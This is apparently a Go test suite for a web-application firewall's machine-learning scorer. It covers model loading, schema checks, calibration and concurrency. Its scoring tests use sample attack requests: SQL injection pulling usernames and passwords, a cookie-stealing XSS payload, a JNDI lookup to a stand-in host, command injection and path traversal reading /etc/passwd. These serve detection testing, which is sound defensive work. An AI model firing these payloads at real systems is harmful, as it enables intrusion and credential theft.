package model

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"io"
	"math"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func mustDefault(t testing.TB) *Model {
	t.Helper()
	m, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// rewriteModel returns the embedded model file with edit applied to its JSON.
func rewriteModel(t *testing.T, edit func(map[string]any)) []byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(defaultModelBytes()))
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	edit(doc)
	out, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func defaultModelBytes() []byte { return defaultModel }

func TestEmbeddedModelMetadata(t *testing.T) {
	t.Parallel()
	info := mustDefault(t).Info()
	if info.SchemaVersion != SchemaVersion || info.TrainingDataHash == "" || info.Created == "" || len(info.Metrics) == 0 {
		t.Fatalf("incomplete metadata: %+v", info)
	}
	if info.DefaultThreshold < 1 || info.DefaultThreshold > 98 {
		t.Fatalf("default threshold %d out of range", info.DefaultThreshold)
	}
	if !strings.HasPrefix(info.Trainer, "lightgbm 3.") {
		t.Fatalf("trainer %q: leaves needs a LightGBM 3.x (format v3) model", info.Trainer)
	}
	// The gate is what keeps the model at a few microseconds a request:
	// a cut-off sized by the wrong fields once let none out (6× slower).
	gate, _ := info.Metrics["gate"].(map[string]any)
	if rate, _ := gate["valid_fields_gated"].(float64); rate < 0.5 {
		t.Fatalf("the gate lets out %.3f of validation fields, want at least half: %v", rate, gate)
	}
}

func TestLoadRefusesOtherSchema(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		edit func(map[string]any)
	}{
		{"version", func(d map[string]any) { d["schema_version"] = "bulwark-features-v0" }},
		{"feature order", func(d map[string]any) {
			n := d["feature_names"].([]any)
			n[0], n[1] = n[1], n[0]
		}},
		{"feature count", func(d map[string]any) { d["feature_names"] = d["feature_names"].([]any)[:10] }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			path := filepath.Join(t.TempDir(), "m.json")
			if err := os.WriteFile(path, rewriteModel(t, tc.edit), 0o600); err != nil {
				t.Fatal(err)
			}
			_, err := Load(path)
			if !errors.Is(err, ErrSchemaMismatch) {
				t.Fatalf("Load = %v, want ErrSchemaMismatch", err)
			}
			if !strings.Contains(err.Error(), SchemaVersion) {
				t.Errorf("error should name the binary's schema: %v", err)
			}
		})
	}
}

func TestLoadPlainJSONAndErrors(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	plain := filepath.Join(dir, "plain.json")
	if err := os.WriteFile(plain, rewriteModel(t, func(map[string]any) {}), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(plain); err != nil {
		t.Fatalf("plain JSON model: %v", err)
	}
	if _, err := Load(filepath.Join(dir, "missing")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("missing file: %v", err)
	}
	v4 := filepath.Join(dir, "v4.json")
	if err := os.WriteFile(v4, rewriteModel(t, func(d map[string]any) {
		d["lightgbm_model"] = strings.Replace(d["lightgbm_model"].(string), "version=v3", "version=v4", 1)
	}), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(v4); err == nil {
		t.Error("a LightGBM v4 model must be refused by leaves")
	}
}

// The scores here are the contract with users, not tuning targets: plain
// attacks of every class must score as attacks in the right location and
// plain traffic (including SQL-sounding prose) as clean.
func TestScoreExamples(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	thr := m.Info().DefaultThreshold
	ua := [2]string{"user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"}
	tests := []struct {
		name        string
		req         Request
		class, part string
		field       string
	}{
		{"clean search", Request{Method: "GET", URI: "/search?q=running+shoes&page=2"}, "", "", ""},
		{"sql-ish prose", Request{Method: "POST", URI: "/contact", Headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}},
			Body: []byte("msg=Drop+me+a+line+and+select+a+date+that+works+for+you")}, "", "", ""},
		{"apostrophes", Request{Method: "GET", URI: "/s?q=O%27Reilly%27s+books"}, "", "", ""},
		{"sqli", Request{Method: "GET", URI: "/item?id=1%27+UNION+SELECT+username,password+FROM+users--+-"}, "sqli", "query", "id"},
		{"xss json", Request{Method: "POST", URI: "/api/c", Headers: [][2]string{{"content-type", "application/json"}},
			Body: []byte(`{"comment":{"text":"<img src=x onerror=alert(document.cookie)>"}}`)}, "xss", "body", "comment.text"},
		{"rce header", Request{Method: "GET", URI: "/", Headers: [][2]string{{"x-api-version", "${jndi:ldap://evil.example/a}"}}}, "rce", "header", "x-api-version"},
		{"cmd injection", Request{Method: "GET", URI: "/ping?host=127.0.0.1%3Bcat+/etc/passwd"}, "rce", "query", "host"},
		{"traversal cookie", Request{Method: "GET", URI: "/", Headers: [][2]string{{"cookie", "tpl=..%2F..%2F..%2F..%2Fetc%2Fpasswd"}}}, "traversal", "cookie", "tpl"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tc.req.Headers = append(tc.req.Headers, ua)
			s := m.Score(context.Background(), &tc.req)
			if tc.class == "" {
				if s.Overall <= thr || len(s.Locations) > 0 {
					t.Fatalf("clean request scored %+v", s)
				}
				return
			}
			if s.Overall > thr || s.Class[tc.class] > thr {
				t.Fatalf("attack scored %+v", s)
			}
			l := s.Locations[0]
			if l.Class != tc.class || l.Part != tc.part || l.Field != tc.field || l.Score != s.Class[tc.class] {
				t.Fatalf("worst location %+v, want %s in %s %q", l, tc.class, tc.part, tc.field)
			}
		})
	}
}

func TestScoreConcurrent(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	reqs := []*Request{
		{Method: "GET", URI: "/x?a=1%27+or+1%3D1--"},
		{Method: "GET", URI: "/x?a=hello+world&b=%3Csvg%2Fonload%3Dalert(1)%3E"},
		{Method: "GET", URI: "/../../etc/passwd"},
	}
	want := make([]Scores, len(reqs))
	for i, r := range reqs {
		want[i] = m.Score(context.Background(), r)
	}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := 0; n < 50; n++ {
				i := n % len(reqs)
				got := m.Score(context.Background(), reqs[i])
				if got.Overall != want[i].Overall || len(got.Locations) != len(want[i].Locations) {
					t.Errorf("concurrent score differs: %+v vs %+v", got, want[i])
					return
				}
			}
		}()
	}
	wg.Wait()
}

func TestCalibrationAndScale(t *testing.T) {
	t.Parallel()
	c := Calibration{X: []float64{0.1, 0.5, 0.9}, Y: []float64{0, 0.5, 1}}
	for _, tc := range []struct{ p, want float64 }{{0, 0}, {0.3, 0.25}, {0.5, 0.5}, {0.95, 1}} {
		if got := c.Apply(tc.p); math.Abs(got-tc.want) > 1e-12 {
			t.Errorf("apply(%v) = %v, want %v", tc.p, got, tc.want)
		}
	}
	for _, tc := range []struct {
		p    float64
		want int
	}{{0, 99}, {1, 1}, {0.5, 50}, {-1, 99}, {2, 1}} {
		if got := ScoreFromProb(tc.p); got != tc.want {
			t.Errorf("ScoreFromProb(%v) = %d, want %d", tc.p, got, tc.want)
		}
	}
}

// Every suspicious request must say where: a low overall score with an
// empty location list would leave an operator nothing to act on.
func TestLowScoresHaveLocations(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	f, err := os.Open("testdata/parity.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n := 0
	err = ReadRecords(f, func(_ int, rec *Record) error {
		s := m.Score(context.Background(), rec.Request())
		if s.Overall <= locationCutoff {
			n++
			if len(s.Locations) == 0 {
				t.Errorf("%s: overall %d but no location", rec.ID, s.Overall)
			}
		}
		for i := 1; i < len(s.Locations); i++ {
			if s.Locations[i].Score < s.Locations[i-1].Score {
				t.Errorf("%s: locations not worst first: %+v", rec.ID, s.Locations)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Fatal("testdata has no suspicious request; the test checks nothing")
	}
}
